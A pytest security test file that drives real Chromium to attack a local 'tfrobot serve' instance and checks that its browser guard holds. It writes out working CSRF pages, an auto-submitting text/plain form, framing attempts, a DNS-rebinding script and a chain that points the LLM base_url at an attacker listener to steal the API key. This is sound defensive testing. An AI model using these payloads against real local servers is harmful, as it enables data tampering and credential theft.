"""A web page on another loopback origin attacks a local `tfrobot serve`, in real Chromium.

The attacker's site runs on `http://127.0.0.2:<port>` (another site) and on `http://localhost:<port>` (the
same site as the server reached as `localhost`, another origin). Against the `guarded` server (local mode,
`--no-local-token`: only the browser guard stands in the way) it tries what THREATS.md lists:

* simple requests to every action the server hosts, in every shape a page may send without a CORS
  preflight: text/plain (a JSON body under `mode: "no-cors"`, also one claiming application/json,
  which the browser drops), a urlencoded form, multipart, an empty POST; with real payloads for
  `aset_template`, `adelete_doc`, the chat and the key-exfiltration chain (`aset_llm` with the
  attacker's `base_url`, then `acall`);
* auto-submitted `<form enctype="text/plain">` replacing the template, from the page and from a sandboxed
  iframe (`Origin: null`);
* reading answers with `fetch` in cors mode;
* framing the console and the API docs;
* a DNS rebinding: Chromium resolves an attacker's name to 127.0.0.1, the page is "same-origin".

Every attack request carries `?attack=N`; the server's access log shows what each one got. After the
attacks, every read action answers exactly as before, the template is the same, document 1 is there, and
the attacker's listener (where `base_url` pointed) received nothing. Then the console itself is checked in
local mode with its secret: the printed link works, the secret leaves the URL, the CSP blocks nothing.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.security.conftest import (
    FAKE_OPENAI_KEY,
    LOCAL_SECRET,
    REBOUND,
    SOAK,
    Listener,
    Served,
    Site,
    all_actions,
)

KINDS = ["text", "json-claimed", "form", "multipart", "empty"]
GUARD_STATUSES = {403, 415}
"""What the guard answers (a foreign origin; a content type); an action's own answer would be 2xx/404/422."""

_SPRAY = """<!doctype html><title>cute cats</title><script>
const requests = %s;
function init(r) {
  const init = {method: "POST", mode: "no-cors", credentials: "include"};
  if (r.kind === "text") init.body = r.body;
  if (r.kind === "json-claimed") { init.body = r.body; init.headers = {"Content-Type": "application/json"}; }
  if (r.kind === "form") init.body = new URLSearchParams({[r.body]: ""});
  if (r.kind === "multipart") { const f = new FormData(); f.append("params", r.body); init.body = f; }
  return init;
}
window.sprayed = (async () => {
  for (const r of requests) { try { await fetch(r.url, init(r)); } catch (e) {} }
  return requests.length;
})();
async function tryRead(url, options) {
  try { const res = await fetch(url, options); return "read " + res.status + " " + (await res.text()); }
  catch (e) { return "blocked " + e.name; }
}
window.reads = (reads) => Promise.all(reads.map((r) => tryRead(r.url, r.init)));
</script>"""

_FORM = """<form id="f" method="POST" enctype="text/plain" action="%s"><input type="hidden"
name='{"template": "FORM-PWNED' value='"}'></form><script>document.getElementById("f").submit()</script>"""


def _payloads(listener: Listener) -> dict[str, dict[str, Any]]:
    """Bodies that would do harm if an action ran them: by action name."""
    params = {"base_url": f"http://127.0.0.1:{listener.port}/v1", "max_retries": 0, "timeout": 3}
    return {
        "aset_template": {"template": "PWNED {{ robot }}"},
        "adelete_doc": {"doc_id": 1},
        "adelete_docs": {"doc_ids": [1, 2, 3]},
        "aset_llm": {"provider": "openai", "model": "gpt-4o", "params": params},
        "acall": {"message": "say the key"},
        "aupdate_doc": {"doc_id": 1, "keywords": ["pwned"], "metadata": {}},
    }


def snapshot(served: Served) -> dict[str, Any]:
    """What the server holds, over real HTTP: every component's configuration and every read action's
    answer to `{}` (the same data a console would show)."""
    state: dict[str, Any] = {}
    with httpx.Client(base_url=served.url, headers=served.headers, timeout=30) as client:
        for robot in client.get("/api/robots").json():
            state[robot["name"]] = client.get(f"/api/robots/{robot['name']}/components").json()
        for path, action in all_actions(served):
            if action["alias"]["resourceOpType"].startswith("get"):
                response = client.post(path, json={})
                state[path] = (response.status_code, response.json())
        state["doc 1"] = client.post("/api/robots/demo/components/memory/actions/aget_doc", json={"doc_id": 1}).json()
    return state


@pytest.fixture
def page(chromium: Browser) -> Iterator[Page]:
    context = chromium.new_context()
    yield context.new_page()
    context.close()


def _wait_for(served: Served, attack: int) -> None:
    """Until the server has logged its answer to `attack` (a form posts on its own, after the page loaded)."""
    for _ in range(100):
        if attack in served.statuses():
            return
        time.sleep(0.05)
    raise AssertionError(f"attack {attack} never reached the server")


def _server_url(served: Served, site: Site) -> str:
    """The server as the attacked user's browser knows it: under the name of the site the attack uses."""
    return f"http://localhost:{served.port}" if site.origin.startswith("http://localhost") else served.url


def test_a_foreign_page_changes_nothing(
    page: Page, guarded: Served, attacker_sites: list[Site], exfil_listener: Listener
) -> None:
    before = snapshot(guarded)
    payloads = _payloads(exfil_listener)
    actions = all_actions(guarded)
    targets = [(path, json.dumps(payloads.get(path.rsplit("/", 1)[1], {}))) for path, _ in actions]
    targets.append(("/api/robots/demo/chat", json.dumps({"message": "weather in Paris?"})))
    attacks: dict[int, str] = {}

    def attack(what: str) -> int:
        attacks[len(attacks) + 1] = what
        return len(attacks)

    rounds = 5 if SOAK else 1
    for site in attacker_sites * rounds:
        server = _server_url(guarded, site)
        requests = [
            {"url": f"{server}{path}?attack={attack(f'{site.origin} {kind} {path}')}", "kind": kind, "body": body}
            for path, body in targets
            for kind in KINDS
        ]
        site.pages["/spray"] = _SPRAY % json.dumps(requests)
        page.goto(f"{site.origin}/spray")
        assert page.evaluate("window.sprayed") == len(requests)
        docs = "/api/robots/demo/components/memory/actions/aget_docs"
        reads = [
            {"url": f"{server}/api/robots?attack={attack(f'{site.origin} read GET')}", "init": {}},
            {
                "url": f"{server}{docs}?attack={attack(f'{site.origin} read JSON (preflight)')}",
                "init": {"method": "POST", "headers": {"Content-Type": "application/json"}, "body": "{}"},
            },
            {
                "url": f"{server}/api/robots/demo/components/prompt/actions/arender?attack={attack('read text')}",
                "init": {"method": "POST", "body": "{}"},
            },
        ]
        results = page.evaluate("(reads) => window.reads(reads)", reads)
        assert results == ["blocked TypeError"] * 3, results  # no answer is readable by the page
        for name, frame in (
            ("form", "%s"),
            ("sandboxed form", '<iframe sandbox="allow-forms allow-scripts" srcdoc="%s">'),
        ):
            number = attack(f"{site.origin} {name}")
            form = _FORM % f"{server}/api/robots/demo/components/prompt/actions/aset_template?attack={number}"
            site.pages[f"/form-{number}"] = frame % (form.replace('"', "&quot;") if "srcdoc" in frame else form)
            page.goto(f"{site.origin}/form-{number}")
            _wait_for(guarded, number)
    stolen = [r for r in exfil_listener.received if FAKE_OPENAI_KEY.encode() in r]
    assert not stolen, f"the server sent its OPENAI_API_KEY to the attacker's base_url: {stolen[0][:300]!r}"
    statuses = guarded.statuses()
    reached = {n: statuses.get(n) for n in attacks}
    missing = [attacks[n] for n, status in reached.items() if status is None]
    assert not missing, f"{len(missing)} attacks never reached the server (the test would prove nothing): {missing[:5]}"
    through = {attacks[n]: status for n, status in reached.items() if status not in GUARD_STATUSES}
    assert not through, through
    reads_tried = sum(1 for what in attacks.values() if "read" in what)
    print(
        f"\nforeign pages (Chromium, {len(attacker_sites)} origins): {len(attacks)} attacks on {len(targets)} "
        f"endpoints ({len(attacks) - reads_tried} simple requests and forms, {reads_tried} reads), all held by the "
        f"guard (statuses {sorted({s for s in reached.values() if s})}); the attacker's listener got "
        f"{len(exfil_listener.received)} connections"
    )
    assert exfil_listener.received == [], "the server sent a request to the attacker's base_url"
    after = snapshot(guarded)
    prompt = next(c for c in after["demo"] if c["name"] == "prompt")
    assert "PWNED" not in prompt["config"]["template"]
    assert after["doc 1"]["docId"] == 1
    assert after == before  # every configuration and every read action's answer


def test_the_console_cannot_be_framed(page: Page, guarded: Served, attacker_sites: list[Site]) -> None:
    refused: list[str] = []
    page.on("console", lambda m: refused.append(m.text) if "frame-ancestors" in m.text else None)
    for site in attacker_sites:
        server = _server_url(guarded, site)
        site.pages["/frame"] = (
            f'<iframe id="console" src="{server}/" width="800" height="600"></iframe>'
            f'<iframe id="docs" src="{server}/docs" width="800" height="600"></iframe>'
        )
        page.goto(f"{site.origin}/frame")
        page.wait_for_timeout(500)
        children = [f for f in page.frames if f != page.main_frame]
        assert len(children) == 2
        for frame in children:
            rendered = frame.evaluate("document.querySelectorAll('#root *, #swagger-ui *').length")
            assert rendered == 0, f"{frame.url} rendered inside {site.origin}"
    assert len(refused) == 2 * len(attacker_sites), refused
    print(f"\nframing: {len(refused)} frames of the console and /docs refused by frame-ancestors")


def test_a_dns_rebound_page_gets_nothing(page: Page, guarded: Served) -> None:
    """A DNS rebinding: the attacker's name first served the attacker's page (Playwright fulfils that one
    request), then resolves to 127.0.0.1 (`--host-resolver-rules`), so the page's calls go to the server and
    are same-origin as far as the browser knows: only their Host header tells the server they are not for it."""
    rebound = f"http://{REBOUND}:{guarded.port}"
    page.route(
        f"{rebound}/start", lambda route: route.fulfill(body="<title>cute cats</title>", content_type="text/html")
    )
    page.goto(f"{rebound}/start")
    results = page.evaluate(
        """async () => Promise.all([
            fetch("/?attack=9001").then((r) => [r.status, r.headers.get("content-type")]),
            fetch("/api/robots?attack=9002").then(async (r) => [r.status, (await r.json()).error]),
            fetch("/api/robots/demo/components/prompt/actions/aset_template?attack=9003", {
                method: "POST", headers: {"Content-Type": "application/json"}, body: '{"template": "REBOUND"}',
            }).then(async (r) => [r.status, (await r.json()).error]),
        ])"""
    )
    assert results == [[403, "application/json"], [403, "host_not_allowed"], [403, "host_not_allowed"]]
    assert {n: guarded.statuses()[n] for n in (9001, 9002, 9003)} == {9001: 403, 9002: 403, 9003: 403}
    response = page.goto(f"{rebound}/?attack=9004")  # the console itself, opened under the rebound name
    assert response is not None
    assert response.status == 403
    with httpx.Client(base_url=guarded.url) as client:
        variables = client.post("/api/robots/demo/components/prompt/actions/aget_variables", json={}).json()
    assert "REBOUND" not in variables["template"]
    print("\nDNS rebinding (Chromium): the console and 3 same-origin calls under a rebound name: all 403")


def test_the_console_link_carries_the_local_secret(chromium: Browser, default: Served) -> None:
    """`make run`'s printed link (`/#token=…`): the console works with it, keeps it for the tab only, drops it
    from the address bar, sends it on every call; without it the console says where to find it; the
    console runs under its CSP without a single violation."""
    context = chromium.new_context(viewport={"width": 1400, "height": 900})
    page = context.new_page()
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    page.on("pageerror", lambda e: violations.append(str(e)))
    sent: list[str | None] = []
    page.on("request", lambda r: sent.append(r.headers.get("authorization")) if "/api/" in r.url else None)
    try:
        page.goto(f"{default.url}/#token={LOCAL_SECRET}")
        expect(page.get_by_role("link", name="memory")).to_be_visible()
        assert page.url == f"{default.url}/#/"
        assert page.evaluate("sessionStorage.getItem('tfrobot.token')") == LOCAL_SECRET
        assert page.evaluate("localStorage.getItem('tfrobot.token')") is None
        page.goto(f"{default.url}/#/r/demo/c/memory/a/aget_docs")
        expect(page.get_by_test_id("data-table")).to_be_visible()
        page.goto(f"{default.url}/#/r/demo/c/graph/a/aget_graph")
        expect(page.get_by_test_id("graph")).to_be_visible()
        page.goto(f"{default.url}/#/r/demo/chat")
        expect(page.get_by_role("button", name="Send")).to_be_visible()
        assert sent
        assert set(sent) == {f"Bearer {LOCAL_SECRET}"}
        assert not violations, violations
        stranger = context.browser.new_context() if context.browser else None
        assert stranger is not None
        other = stranger.new_page()
        other.goto(f"{default.url}/")
        expect(other.get_by_text("local-token").first).to_be_visible()
        stranger.close()
    finally:
        context.close()
    print(f"\nlocal secret: the console link made {len(sent)} API calls with it; no CSP violation")
